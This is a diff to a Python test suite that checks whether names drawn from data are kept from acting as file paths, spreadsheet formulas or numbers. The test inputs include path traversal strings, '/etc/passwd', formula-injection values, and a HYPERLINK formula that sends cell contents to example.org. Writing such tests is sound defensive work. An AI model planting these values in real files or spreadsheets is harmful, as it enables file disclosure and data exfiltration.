@@ -288,7 +288,7 @@ def test_numbers_and_dates_are_written_as_they_are():
 
 
 FORMULA = '=HYPERLINK("http://example.org?"&A1,"see")'
-NAMES = ("../../outside", "/etc/passwd", "C:\\x", "a/b", "..", "NA", "007", "-1", FORMULA, "@SUM(A1)", "+x", "a\u202eb")
+NAMES = ("../../outside", "/etc/passwd", "C:\\x", "a/b", "..", "NA", "007", "-1", FORMULA, "@SUM(A1)", "+x", "\xe9 x")
 
 
 def test_names_from_data_are_neither_paths_nor_formulas_nor_numbers(tmp_path):
